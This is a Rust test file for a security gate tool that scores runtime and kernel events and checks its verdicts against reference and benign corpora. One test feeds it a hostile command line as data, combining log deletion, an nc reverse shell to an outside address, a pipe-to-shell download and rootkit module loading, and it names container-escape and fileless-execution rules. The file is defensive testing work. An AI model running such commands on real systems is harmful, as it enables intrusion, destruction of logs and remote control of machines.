//! What the gate says of whole corpora.

use super::{corpus, gate, unpacked};

fn assert_same_lines(found: &[u8], expected: &[u8], what: &str) {
    let (found, expected) = (String::from_utf8_lossy(found), String::from_utf8_lossy(expected));
    for (number, (a, b)) in found.lines().zip(expected.lines()).enumerate() {
        similar_asserts::assert_eq!(a, b, "{what}, line {}", number + 1);
    }
    assert_eq!(found.lines().count(), expected.lines().count(), "{what}: lines");
}

/// The reference's own bytes, not only its JSON: the strongest equality there is.
fn assert_is_the_references(vectors: &str, jobs: &str) {
    let output = gate()
        .args(["--profile", "scbe", "--emit-enforcement", "--include-kernel-event", "--enforcement-cooldown", "0"])
        .args(["--jobs", jobs])
        .write_stdin(unpacked(&format!("scbe/{vectors}.in.jsonl.gz")))
        .output()
        .expect("kiln runs");
    assert_eq!(output.status.code(), Some(2), "the vectors contain malformed lines");
    assert_same_lines(&output.stdout, &unpacked(&format!("scbe/{vectors}.out.jsonl.gz")), vectors);
    if vectors == "hard" {
        assert_same_lines(&output.stderr, &unpacked("scbe/hard.err.jsonl.gz"), "errors");
    }
}

#[test]
fn scbe_profile_equals_the_reference_on_its_vectors() {
    assert_is_the_references("dev", "1");
    assert_is_the_references("dev", "2");
}

#[test]
fn scbe_profile_equals_the_reference_on_hostile_lines() {
    assert_is_the_references("hard", "1");
}

/// State, action and the deciding field of each line, one a line: what a person reviews when the weights change.
fn digest(corpus_file: &str, arguments: &[&str]) -> String {
    let output = gate().arg("--input").arg(corpus(corpus_file)).args(arguments).output().expect("kiln runs");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let mut digest = String::new();
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("each line is JSON");
        let word = |name: &str| v[name].as_str().unwrap_or("-").to_owned();
        let number = |name: &str| v[name].as_f64().unwrap_or(f64::NAN);
        digest += &format!(
            "{:8} {:10} {:.2} {:.2} {} {} {} [{}]\n",
            word("cell_state"),
            word("kernel_action"),
            number("suspicion"),
            number("signal"),
            word("process_name"),
            word("operation"),
            word("target"),
            word("rule")
        );
    }
    digest
}

#[test]
fn every_action_of_the_event_generator_meets_friction() {
    let lines = std::fs::read_to_string(corpus("default/event-generator.jsonl")).expect("the corpus is there");
    assert_eq!(lines.lines().count(), 23);
    let destructive = [
        "Clear Log Activities",
        "Remove Bulk Data from Disk",
        "Drop and execute new binary in container",
        "Detect release_agent File Container Escapes",
        "Fileless execution via memfd_create",
        "PTRACE attached to process",
    ];
    // Each alone, with a memory that has seen nothing: no event leans on the one before it.
    for line in lines.lines() {
        let output = gate().write_stdin(line).output().expect("kiln runs");
        let v: serde_json::Value = serde_json::from_slice(&output.stdout).expect("one line of JSON");
        let rule = v["rule"].as_str().expect("a rule");
        assert_ne!(v["cell_state"], "HEALTHY", "{rule}");
        assert_ne!(v["kernel_action"], "ALLOW", "{rule}");
        if destructive.contains(&rule) {
            assert!(matches!(v["cell_state"].as_str(), Some("INFLAMED" | "NECROTIC")), "{rule}: {v}");
        }
    }
    insta::assert_snapshot!("event_generator", digest("default/event-generator.jsonl", &[]));
}

#[test]
fn an_ordinary_hour_is_left_alone() {
    let digest = digest("default/benign-hour.jsonl", &[]);
    assert!(digest.lines().count() > 300);
    for line in digest.lines() {
        assert!(line.starts_with("HEALTHY  ALLOW") || line.starts_with("PRIMED   ALLOW"), "{line}");
    }
    insta::assert_snapshot!("benign_hour", digest);
}

#[test]
fn an_hour_recorded_from_a_real_machine_is_left_alone() {
    let output = gate().write_stdin(unpacked("default/recorded.jsonl.gz")).output().expect("kiln runs");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let mut seen = std::collections::BTreeSet::new();
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("each line is JSON");
        assert!(matches!(v["cell_state"].as_str(), Some("HEALTHY" | "PRIMED")), "{v}");
        assert_eq!(v["kernel_action"], "ALLOW", "{v}");
        seen.insert(v["process_name"].as_str().expect("a name").to_owned());
    }
    // It is what it says: packages, accounts, services, logs and backups.
    for program in
        ["dpkg", "ldconfig", "useradd", "chpasswd", "su", "nginx", "savelog", "gzip", "tar", "perl", "userdel"]
    {
        assert!(seen.contains(program), "{program} is not in {seen:?}");
    }
}

#[test]
fn an_attack_amid_ordinary_work_reaches_kill_and_honeypot() {
    let digest = digest("default/mixed.jsonl", &["--alerts-only"]);
    assert!(digest.contains(" KILL "), "{digest}");
    assert!(digest.contains(" HONEYPOT "), "{digest}");
    insta::assert_snapshot!("mixed", digest);
}

fn verdict(line: &str) -> serde_json::Value {
    let output = gate().write_stdin(line).output().expect("kiln runs");
    serde_json::from_slice(&output.stdout).expect("one line of JSON")
}

#[test]
fn no_single_field_drives_the_gate() {
    let worst = [
        r#""priority":"Emergency""#,
        r#""rule":"Fileless execution via memfd_create""#,
        r#""tags":["mitre_impact","T1485","T1611","T1620","T1070"]"#,
        r#""geometry_norm":1e308"#,
        r#""signer_trusted":false"#,
        r#""hash_sha256":"short""#,
        r#""command_line":"rm -rf /var/log; nc -e /bin/sh 1.2.3.4 31337; curl x | sh; insmod /tmp/rk.ko""#,
        r#""target":"/etc/ld.so.preload""#,
        r#""evt_type":"init_module""#,
        r#""parent_process":"nginx""#,
    ];
    for field in worst {
        let v = verdict(&format!(r#"{{"process_name":"app","output":"x",{field}}}"#));
        assert_eq!(v["cell_state"], "HEALTHY", "{field}: {v}");
        assert_eq!(v["kernel_action"], "ALLOW", "{field}");
    }
}

#[test]
fn ocsf_findings_have_what_the_schema_requires() {
    let output = gate()
        .args(["--format", "ocsf", "--input"])
        .arg(corpus("default/event-generator.jsonl"))
        .output()
        .expect("kiln runs");
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("each line is JSON");
        for (name, value) in [("category_uid", 2), ("class_uid", 2004), ("type_uid", 200401), ("activity_id", 1)] {
            assert_eq!(v[name], value, "{name}");
        }
        for required in [
            "/time",
            "/severity_id",
            "/finding_info/uid",
            "/finding_info/title",
            "/metadata/version",
            "/metadata/product/name",
        ] {
            assert!(!v.pointer(required).unwrap_or(&serde_json::Value::Null).is_null(), "{required}");
        }
    }
}
